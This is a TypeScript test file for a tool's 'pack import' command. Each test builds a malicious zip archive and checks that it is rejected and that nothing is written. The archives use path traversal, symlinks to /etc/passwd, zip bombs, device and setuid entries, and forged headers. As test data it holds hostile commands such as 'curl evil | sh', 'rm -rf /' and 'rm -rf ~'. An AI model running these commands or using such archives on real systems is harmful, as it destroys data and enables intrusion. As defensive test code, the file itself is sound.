import { readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { InputError } from '../../src/core/errors.js';
import { importPack, verifyPack } from '../../src/features/pack/index.js';
import { serializeManifest, sha256, type ManifestFile } from '../../src/features/pack/manifest.js';
import { runCli } from '../helpers/cli.js';
import { useTempDirs } from '../helpers/tmp.js';
import { rawZip, type RawEntry } from './raw-zip.js';

/**
 * The hostile-pack corpus: every archive here must be rejected by `crucible pack import` with its
 * own message, and leave nothing behind: no destination, no partial directory, no other file.
 */
const tempDir = useTempDirs();

const TASKS = `tasks:
  - id: t
    repo: { path: repos/r }
    instruction: fix it
    tests: { command: "true", fail_to_pass: [a] }
`;

interface PackFileSpec {
  data: string | Buffer;
  type?: ManifestFile['type'];
}

const MODE = { file: 0o100644, exec: 0o100755, symlink: 0o120777 } as const;

function baseFiles(): Record<string, PackFileSpec> {
  return { 'tasks.yaml': { data: TASKS }, 'repos/r/README.md': { data: 'hello\n' } };
}

/** A pack whose manifest lists exactly `files`; `extra` entries are added to the archive only. */
function entries(files: Record<string, PackFileSpec>, extra: RawEntry[] = [], manifestBytes?: Buffer): RawEntry[] {
  const list = Object.entries(files).map(([path, f]) => {
    const data = Buffer.isBuffer(f.data) ? f.data : Buffer.from(f.data);
    return { path, type: f.type ?? 'file', data };
  });
  const manifest =
    manifestBytes ??
    serializeManifest({
      format: 'crucible-pack',
      version: 1,
      taskset: 'tasks.yaml',
      files: list.map((f) => ({ path: f.path, type: f.type, size: f.data.length, sha256: sha256(f.data) })),
    });
  return [
    { name: 'pack.json', data: manifest },
    ...list.map((f) => ({ name: f.path, data: f.data, mode: MODE[f.type], method: f.type === 'symlink' ? (0 as const) : (8 as const) })),
    ...extra,
  ];
}

interface Case {
  name: string;
  zip: () => Buffer;
  message: RegExp;
  exit: 1 | 2;
}

const file = (name: string | Buffer, data = 'x', mode = 0o100644): RawEntry => ({ name, data: Buffer.from(data), mode });

const cases: Case[] = [
  { name: 'a ../ path', zip: () => rawZip(entries(baseFiles(), [file('../evil.sh')])), message: /"\.\.\/evil\.sh": a "\.\." segment/, exit: 2 },
  { name: 'a nested ../ path', zip: () => rawZip(entries(baseFiles(), [file('repos/../../evil')])), message: /a "\.\." segment/, exit: 2 },
  { name: 'an absolute path', zip: () => rawZip(entries(baseFiles(), [file('/tmp/evil')])), message: /"\/tmp\/evil": an absolute path/, exit: 2 },
  { name: 'a drive letter', zip: () => rawZip(entries(baseFiles(), [file('C:/evil')])), message: /a drive-letter path/, exit: 2 },
  { name: 'a backslash', zip: () => rawZip(entries(baseFiles(), [file('..\\evil')])), message: /a backslash in the name/, exit: 2 },
  {
    name: 'a name that is not UTF-8',
    zip: () => rawZip(entries(baseFiles(), [{ ...file(Buffer.from([0x61, 0xff, 0x62])), flags: 0 }])),
    message: /name is not UTF-8/,
    exit: 2,
  },
  { name: 'a name not in NFC', zip: () => rawZip(entries(baseFiles(), [file('repos/r/cafe\u0301')])), message: /not in Unicode NFC form/, exit: 2 },
  { name: 'a directory entry', zip: () => rawZip(entries(baseFiles(), [file('repos/r/dir/', '', 0o040755)])), message: /a directory entry/, exit: 2 },
  {
    name: 'a character device',
    zip: () => rawZip(entries(baseFiles(), [file('repos/r/tty', '', 0o020644)])),
    message: /"repos\/r\/tty": a character device/,
    exit: 2,
  },
  { name: 'a block device', zip: () => rawZip(entries(baseFiles(), [file('repos/r/sda', '', 0o060644)])), message: /a block device/, exit: 2 },
  { name: 'a FIFO', zip: () => rawZip(entries(baseFiles(), [file('repos/r/fifo', '', 0o010644)])), message: /a FIFO/, exit: 2 },
  { name: 'a setuid file', zip: () => rawZip(entries(baseFiles(), [file('repos/r/su', 'x', 0o104755)])), message: /setuid, setgid or sticky/, exit: 2 },
  { name: 'an encrypted entry', zip: () => rawZip(entries(baseFiles(), [{ ...file('repos/r/secret'), flags: 0x801 }])), message: /encrypted/, exit: 2 },
  {
    name: 'a duplicate name',
    zip: () => rawZip(entries(baseFiles(), [file('repos/r/README.md', 'evil')])),
    message: /"repos\/r\/README\.md": duplicate name/,
    exit: 2,
  },
  {
    name: 'a case-folded duplicate',
    zip: () => rawZip(entries(baseFiles(), [file('repos/r/readme.MD', 'evil')])),
    message: /same name as "repos\/r\/README\.md" on a case-insensitive/,
    exit: 2,
  },
  {
    name: 'a Unicode-normalized duplicate',
    zip: () => rawZip(entries({ ...baseFiles(), 'repos/r/file': { data: 'a' } }, [file('repos/r/\ufb01le', 'b')])),
    message: /same name as "repos\/r\/file"/,
    exit: 2,
  },
  {
    name: 'a file under a file',
    zip: () => rawZip(entries(baseFiles(), [file('repos/r/README.md/x')])),
    message: /lies under "repos\/r\/README\.md", which is a file or symlink/,
    exit: 2,
  },
  {
    name: 'a zip bomb (compression ratio)',
    zip: () => rawZip(entries(baseFiles(), [{ name: 'repos/r/zeros', data: Buffer.alloc(4 * 1024 * 1024) }])),
    message: /"repos\/r\/zeros": compression ratio \d+:1, over the 100:1 limit/,
    exit: 2,
  },
  {
    name: 'overlapping entries',
    zip: () => rawZip(entries(baseFiles(), [file('repos/r/a', 'aaaa'), { ...file('repos/r/b', 'aaaa'), sameDataAs: 3 }])),
    message: /overlaps .* zip bomb/,
    exit: 2,
  },
  {
    name: 'an entry that inflates past its declared size',
    zip: () => {
      // pack.json and the central directory both say 10 bytes; the deflated data holds 100000.
      const big = Buffer.alloc(100_000, 0x61);
      const list = entries({ ...baseFiles(), 'repos/r/big': { data: big.subarray(0, 10) } });
      const zip = rawZip(list.map((e) => (e.name === 'repos/r/big' ? { ...e, data: big } : e)));
      const at = zip.lastIndexOf(Buffer.from('repos/r/big')) - 46;
      zip.writeUInt32LE(10, at + 24);
      // The local header says 10 too: both headers agree, only the data lies.
      zip.writeUInt32LE(10, zip.indexOf(Buffer.from('repos/r/big')) - 30 + 22);
      return zip;
    },
    message: /"repos\/r\/big": corrupt data \(too many bytes in the stream/,
    exit: 2,
  },
  {
    name: 'a symlink out of the pack',
    zip: () => rawZip(entries({ ...baseFiles(), 'repos/r/passwd': { data: '../../../etc/passwd', type: 'symlink' } })),
    message: /symlink repos\/r\/passwd -> \.\.\/\.\.\/\.\.\/etc\/passwd points outside the pack/,
    exit: 2,
  },
  {
    name: 'an absolute symlink',
    zip: () => rawZip(entries({ ...baseFiles(), 'repos/r/abs': { data: '/etc/passwd', type: 'symlink' } })),
    message: /symlink repos\/r\/abs -> \/etc\/passwd points outside the pack/,
    exit: 2,
  },
  {
    name: 'a symlink that climbs out through another symlink',
    // Each target alone stays inside when read lexically; followed, up/.. is the parent of the pack.
    zip: () => rawZip(entries({ ...baseFiles(), 'repos/up': { data: '..', type: 'symlink' }, 'repos/r/l': { data: '../up/../x', type: 'symlink' } })),
    message: /symlink repos\/r\/l -> \.\.\/up\/\.\.\/x points outside the pack/,
    exit: 2,
  },
  {
    name: 'a manifest that lists a file twice',
    zip: () => {
      const listed = { path: 'repos/r/README.md', type: 'file' as const, size: 6, sha256: sha256(Buffer.from('hello\n')) };
      const tasks = { path: 'tasks.yaml', type: 'file' as const, size: Buffer.byteLength(TASKS), sha256: sha256(Buffer.from(TASKS)) };
      const manifest = serializeManifest({ format: 'crucible-pack', version: 1, taskset: 'tasks.yaml', files: [listed, listed, tasks] });
      return rawZip(entries(baseFiles(), [], manifest));
    },
    message: /pack\.json lists repos\/r\/README\.md twice/,
    exit: 2,
  },
  { name: 'no pack.json', zip: () => rawZip(entries(baseFiles()).slice(1)), message: /no pack\.json/, exit: 2 },
  {
    name: 'a pack.json schema error',
    zip: () =>
      rawZip(entries(baseFiles(), [], Buffer.from(JSON.stringify({ format: 'crucible-pack', version: 1, taskset: 'tasks.yaml', files: [], run: 'rm -rf /' })))),
    message: /pack\.json:1:\d+: run: unknown field "run" \(fix: allowed fields: format, version, taskset, files\)/,
    exit: 2,
  },
  {
    name: 'a changed file (bad hash)',
    zip: () => rawZip(entries(baseFiles()).map((e) => (e.name === 'repos/r/README.md' ? { ...e, data: Buffer.from('hellO\n') } : e))),
    message: /repos\/r\/README\.md: SHA-256 does not match pack\.json/,
    exit: 1,
  },
  {
    name: 'a file not in the manifest',
    zip: () => rawZip(entries(baseFiles(), [file('repos/r/extra.sh', 'curl evil | sh')])),
    message: /repos\/r\/extra\.sh is in the archive but not in pack\.json/,
    exit: 1,
  },
  {
    name: 'a file missing from the archive',
    zip: () => rawZip(entries(baseFiles()).filter((e) => e.name !== 'repos/r/README.md')),
    message: /repos\/r\/README\.md is in pack\.json but missing from the archive/,
    exit: 1,
  },
  {
    name: 'a task-set schema error',
    zip: () => rawZip(entries({ ...baseFiles(), 'tasks.yaml': { data: TASKS.replace('instruction:', 'instructions:') } })),
    message: /tasks\.yaml.*instructions/,
    exit: 2,
  },
  {
    name: 'a task path out of the pack',
    zip: () => rawZip(entries({ ...baseFiles(), 'tasks.yaml': { data: `${TASKS}    oracle: { patch: ../../etc/passwd }\n` } })),
    message: /tasks\[0\]\.oracle\.patch: "\.\.\/\.\.\/etc\/passwd" is not a path inside the pack/,
    exit: 2,
  },
  {
    name: 'a repo outside repos',
    zip: () => rawZip(entries({ ...baseFiles(), 'tasks.yaml': { data: TASKS.replace('repos/r', '/home') } })),
    message: /tasks\[0\]\.repo\.path: "\/home" is not a path inside the pack/,
    exit: 2,
  },
  {
    name: 'a git repo in a pack',
    zip: () =>
      rawZip(entries({ ...baseFiles(), 'tasks.yaml': { data: TASKS.replace('{ path: repos/r }', '{ git: "https://example.com/x.git", commit: abcd }') } })),
    message: /tasks\[0\]\.repo: a packed task's repo must be a path:/,
    exit: 2,
  },
  {
    name: 'agent profiles in the task set',
    zip: () => rawZip(entries({ ...baseFiles(), 'tasks.yaml': { data: `agents:\n  - { name: claude-code, command: [sh, -c, evil] }\n${TASKS}` } })),
    message: /a pack may not declare agent profiles/,
    exit: 2,
  },
  {
    name: 'a symlink whose target holds a NUL byte',
    zip: () => rawZip(entries({ ...baseFiles(), 'repos/r/link': { data: Buffer.from('README.md\0../../etc/passwd'), type: 'symlink' } })),
    message: /symlink repos\/r\/link: its target holds a NUL byte \(rejected/,
    exit: 2,
  },
  {
    name: 'a local header whose name differs from the central directory',
    zip: () => rawZip(entries(baseFiles()).map((e) => (e.name === 'repos/r/README.md' ? { ...e, localName: 'repos/r/evil.sh' } : e))),
    message: /entry "repos\/r\/README\.md": its local header names it "repos\/r\/evil\.sh" \(rejected/,
    exit: 2,
  },
  {
    name: 'a local header whose size differs from the central directory',
    zip: () => rawZip(entries(baseFiles()).map((e) => (e.name === 'repos/r/README.md' ? { ...e, localSize: 999 } : e))),
    message: /entry "repos\/r\/README\.md": its local header says 999 bytes uncompressed, the central directory 6 \(rejected/,
    exit: 2,
  },
  {
    name: 'a wrong CRC-32',
    zip: () => rawZip(entries(baseFiles()).map((e) => (e.name === 'repos/r/README.md' ? { ...e, crc: 0x12345678 } : e))),
    message: /entry "repos\/r\/README\.md": corrupt data \(CRC-32 is [0-9a-f]{8}, the archive says 12345678\)/,
    exit: 2,
  },
  { name: 'not a zip', zip: () => Buffer.from('#!/bin/sh\nrm -rf ~\n'), message: /not a zip archive/, exit: 2 },
];

function listing(dir: string): string[] {
  return readdirSync(dir, { recursive: true }).map(String).sort();
}

describe('the hostile-pack corpus', () => {
  it('the well-formed base pack the cases start from imports', async () => {
    const work = tempDir();
    writeFileSync(join(work, 'pack.zip'), rawZip(entries(baseFiles())));
    const result = await runCli(['pack', 'import', 'pack.zip', 'out'], { cwd: work });
    expect(result.stderr).toContain('imported pack.zip');
    expect(result.status).toBe(0);
    expect(listing(join(work, 'out'))).toEqual(['pack.json', 'repos', 'repos/r', 'repos/r/README.md', 'tasks.yaml'].filter((p) => p !== 'pack.json'));
  });

  it.each(cases)('rejects $name, writing nothing', async ({ zip, message, exit }) => {
    const work = tempDir();
    writeFileSync(join(work, 'pack.zip'), zip());
    // verify in-process (the same code), import through the CLI: its one line and exit code.
    const verified = await verifyPack(join(work, 'pack.zip')).then(
      () => undefined,
      (error: InputError) => error,
    );
    expect(verified?.message).toMatch(message);
    expect(verified?.exitCode).toBe(exit);
    const result = await runCli(['pack', 'import', 'pack.zip', 'out'], { cwd: work });
    expect(result.stderr).toMatch(message);
    expect(result.stderr.trim().split('\n')).toHaveLength(1);
    expect(result.status).toBe(exit);
    expect(listing(work)).toEqual(['pack.zip']);
  });

  it('rejects more entries than the limit, and more bytes in total, before writing', async () => {
    const work = tempDir();
    const archive = join(work, 'pack.zip');
    writeFileSync(archive, rawZip(entries(baseFiles(), [file('repos/r/a', 'a'.repeat(1000)), file('repos/r/b', 'b'.repeat(1000))])));
    await expect(importPack(archive, join(work, 'out'), { limits: { maxEntries: 3 } })).rejects.toThrow(/5 entries, over the limit of 3/);
    await expect(importPack(archive, join(work, 'out'), { limits: { maxTotalBytes: 1500 } })).rejects.toThrow(/entries total over 1500 bytes uncompressed/);
    await expect(importPack(archive, join(work, 'out'), { limits: { maxEntryBytes: 999 } })).rejects.toThrow(
      /"repos\/r\/a": 1000 bytes uncompressed, over the 999-byte limit/,
    );
    expect(listing(work)).toEqual(['pack.zip']);
  });

  it('refuses an existing destination, even an empty one, and leaves it as it was', async () => {
    const work = tempDir();
    writeFileSync(join(work, 'pack.zip'), rawZip(entries(baseFiles())));
    writeFileSync(join(work, 'out'), 'mine');
    const result = await runCli(['pack', 'import', 'pack.zip', 'out'], { cwd: work });
    expect(result.stderr).toMatch(/out: already exists/);
    expect(result.status).toBe(2);
    expect(listing(work)).toEqual(['out', 'pack.zip']);
  });
});
